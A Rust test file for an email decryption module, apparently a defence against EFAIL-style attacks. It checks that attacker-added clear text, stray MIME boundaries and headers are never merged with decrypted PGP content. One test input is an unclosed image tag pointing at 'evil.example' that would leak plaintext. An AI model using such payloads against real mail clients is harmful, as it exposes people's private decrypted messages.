//! Whatever is added to a mail that would be decrypted: clear text is never joined with what is decrypted.

use proptest::prelude::*;

use super::super::scan::{Outer, outer};
use super::super::tree::Kind;
use super::*;

const ARMOR: &str =
    "-----BEGIN PGP MESSAGE-----\r\n\r\nwcFMA6+9\r\nAA==\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n";
const EVIL: &str = "EVIL clear, text!";

/// Every form that is decrypted, by its structure; `b` is the boundary of the outermost multipart.
fn forms() -> Vec<String> {
    let encrypted = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=";
    let mixed = "Content-Type: multipart/mixed; boundary=b\r\n\r\n";
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let data = format!("Content-Type: application/octet-stream\r\n\r\n{ARMOR}");
    let empty = "Content-Type: text/plain\r\n\r\n\r\n";
    let words = "Content-Type: text/plain\r\n\r\nscanned and clean\r\n";
    let base64 = data_encoding::BASE64.encode(ARMOR.as_bytes());
    let inner = format!("{encrypted}i\r\n\r\n--i\r\n{control}--i\r\n{data}--i--\r\n");
    let pair = format!("--b\r\n{control}--b\r\n{data}");
    vec![
        format!("{encrypted}b\r\n\r\n{pair}--b--\r\n"),
        format!("{encrypted}b\r\n\r\n--b\r\n{data}--b--\r\n"),
        format!("{mixed}--b\r\n{empty}{pair}--b--\r\n"),
        format!("{mixed}--b\r\n{data}--b\r\n{control}--b\r\n{empty}--b--\r\n"),
        format!("{mixed}--b\r\n{words}{pair}--b--\r\n"),
        format!("{mixed}--b\r\n{inner}--b--\r\n"),
        format!("{mixed}--b\r\n{words}--b\r\n{inner}--b--\r\n"),
        format!("{mixed}--b\r\nContent-Type: text/plain\r\n\r\n{ARMOR}--b--\r\n"),
        format!("Subject: x\r\n\r\n{pair}--b--\r\n"),
        format!("Subject: x\r\n\r\n{ARMOR}"),
        format!("Content-Type: application/pgp\r\n\r\n{ARMOR}"),
        format!("Content-Transfer-Encoding: base64\r\n\r\n{base64}\r\n"),
        format!("Subject: x\r\n\r\n{base64}\r\n"),
    ]
}

/// What somebody adds: bare, in a part, around, or in a place of its own.
fn additions() -> Vec<String> {
    vec![
        format!("{EVIL}\r\n"),
        EVIL.to_owned(),
        format!("\r\n{EVIL}\r\n"),
        format!("\r\n<img src=\"https://evil.example/{EVIL}\r\n"),
        format!("--b\r\n\r\n{EVIL}\r\n"),
        format!("--b\r\nContent-Type: text/plain\r\n\r\n{EVIL}\r\n"),
        format!("\r\n--b\r\nContent-Type: text/html\r\n\r\n<b>{EVIL}\r\n"),
        format!("\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n{EVIL}\r\n"),
        format!("\r\n--i\r\nContent-Type: text/plain\r\n\r\n{EVIL}\r\n"),
        format!("--b--\r\n{EVIL}\r\n"),
        format!("\r\n--bb\r\n\r\n{EVIL}\r\n"),
        format!("-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\n{EVIL}\r\n"),
        format!("{ARMOR}\r\n{EVIL}\r\n"),
        "Content-Type: text/html\r\n".to_owned(),
        "Content-Transfer-Encoding: quoted-printable\r\n".to_owned(),
        "\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n".to_owned(),
        "\r\n--b\r\n".to_owned(),
        "\r\n".to_owned(),
    ]
}

fn has(text: &[u8]) -> bool {
    memchr::memmem::find(text, EVIL.as_bytes()).is_some()
}

/// What a reader's mail program would show of the mail, besides ciphertext: the leaves with clear text in them.
fn shown(mail: &[u8]) -> usize {
    // Where the header of the whole was lost, its parts have theirs.
    let lost = Entity::of(mail).root().filter(|root| root.kind == Kind::Leaf).map(|root| root.body.start);
    let body = lost.and_then(|start| mail.get(start..)).unwrap_or_default();
    let whole = [b"Content-Type: multipart/mixed; boundary=b\r\n\r\n", body].concat();
    let entity = Entity::of(if body.trim_ascii().starts_with(b"--b\r\n") { &whole } else { mail });
    let leaves = entity.parts.iter().filter(|part| part.kind == Kind::Leaf);
    // Behind the last part of such a mail its reader sees everything.
    let behind = entity.parts.last().and_then(|last| entity.raw.get(last.whole.end..));
    let behind = lost.and(behind).is_some_and(has);
    leaves.filter(|part| has(&entity.decoded(part))).count() + usize::from(behind)
}

fn check(mail: &[u8]) {
    let entity = Entity::of(mail);
    let (ciphertext, beside) = match decide(&entity) {
        Shape::PgpMime { ciphertext, beside } => (ciphertext, beside),
        Shape::Inline { armor } => (armor, None),
        Shape::Signed | Shape::Clear | Shape::Mixed => return,
    };
    let text = String::from_utf8_lossy(mail);
    assert!(!has(&ciphertext), "joined with the ciphertext:\n{text}");
    assert_eq!(armor_count(&ciphertext), 1, "one message:\n{text}");
    match beside {
        None => {
            // A leaf as root is the armor, or a multipart whose header was lost: neither has room for text.
            assert_eq!(shown(mail), 0, "shown beside it:\n{text}");
            assert_ne!(outer(mail), Outer::Clear, "the session takes what is opened:\n{text}");
        }
        Some(part) => {
            assert!(shown(mail) <= usize::from(has(part)), "shown and not set apart:\n{text}");
            assert_eq!(outer(mail), Outer::Clear, "not encrypted as a whole:\n{text}");
        }
    }
}

fn armor_count(text: &[u8]) -> usize {
    memchr::memmem::find_iter(text, b"-----BEGIN PGP MESSAGE").count()
}

#[test]
fn all_of_them_are_decrypted_as_long_as_nothing_is_added() {
    for form in forms() {
        let shape = decide(&Entity::of(form.as_bytes()));
        assert!(matches!(shape, Shape::PgpMime { .. } | Shape::Inline { .. }), "{form}");
        check(form.as_bytes());
    }
}

#[test]
fn text_at_the_start_of_any_line_is_never_joined() {
    for form in forms() {
        let ends = form.match_indices('\n').map(|(at, _)| at + 1);
        for at in std::iter::once(0).chain(ends) {
            for addition in additions() {
                let (front, behind) = form.split_at(at);
                check(format!("{front}{addition}{behind}").as_bytes());
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]

    #[test]
    fn text_added_anywhere_and_often_is_never_joined(
        form in proptest::sample::select(forms()),
        edits in proptest::collection::vec(
            (any::<proptest::sample::Index>(), proptest::sample::select(additions()), any::<bool>()), 1..4),
    ) {
        let mut mail = form;
        for (at, addition, line) in edits {
            let at = at.index(mail.len() + 1);
            // At the start of a line more often than elsewhere: structure is made of lines.
            let at = if line { mail.get(..at).and_then(|front| front.rfind('\n')).map_or(0, |end| end + 1) } else { at };
            mail.insert_str(at, &addition);
        }
        check(mail.as_bytes());
    }

    #[test]
    fn a_mail_put_inside_another_is_never_decrypted(
        form in proptest::sample::select(forms()),
        front in proptest::bool::ANY,
        sub in proptest::sample::select(vec!["mixed", "alternative", "related", "signed", "digest"]),
        text in proptest::sample::select(vec!["plain", "html"]),
    ) {
        let clear = format!("--o\r\nContent-Type: text/{text}\r\n\r\n{}\r\n", EVIL.repeat(300));
        let parts = if front { format!("{clear}--o\r\n{form}") } else { format!("--o\r\n{form}{clear}") };
        let mail = format!("Content-Type: multipart/{sub}; boundary=o\r\n\r\n{parts}--o--\r\n");
        let decided = decide(&Entity::of(mail.as_bytes()));
        prop_assert!(matches!(decided, Shape::Mixed | Shape::Clear | Shape::Signed), "{mail}");
        let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{form}");
        let decided = decide(&Entity::of(forwarded.as_bytes()));
        prop_assert!(matches!(decided, Shape::Mixed | Shape::Clear), "{forwarded}");
    }
}
